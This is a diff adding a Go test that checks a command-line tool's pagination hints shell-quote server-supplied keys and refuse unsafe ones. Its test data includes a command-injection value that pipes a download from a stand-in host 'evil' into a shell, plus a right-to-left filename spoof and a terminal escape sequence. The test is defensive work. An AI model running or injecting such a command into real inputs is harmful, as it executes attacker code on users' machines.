@@ -108,3 +108,25 @@ func TestUsageIsPrintedWhole(t *testing.T) {
 		t.Errorf("exit %d, %d rows of 12500: %s", code, n, errs)
 	}
 }
+
+// A lock key is the text of a client: what a person copies from a hint is one word of a shell, and runs nothing.
+func TestHintsQuoteTextsOfClients(t *testing.T) {
+	for key, want := range map[string]string{
+		"user 1":              `--after 'user 1'`,
+		"$(curl evil|sh)`id`": "--after '$(curl evil|sh)`id`'",
+		`it's "$HOME"`:        `--after 'it'\''s "$HOME"'`,
+		"a\nb":                "--limit, up to 10000",
+		"a\u202etxt.exe":      "--limit, up to 10000",
+		"\x1b[2J":             "--limit, up to 10000",
+	} {
+		api := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+			writeAnswer(w, http.StatusOK, listed[map[string]string]{Items: []map[string]string{{"lock_key": key, "queue": "mails", "url": key}}})
+		})
+		for _, line := range []string{"group list mails", "group blocked --queue mails", "webhook list"} {
+			_, errs, code := command(t, api, append(strings.Fields(line), "--limit", "1")...)
+			if errs != "there may be more: "+want+"\n" || code != 0 {
+				t.Errorf("%s: exit %d, %s, want %s", line, code, errs, want)
+			}
+		}
+	}
+}
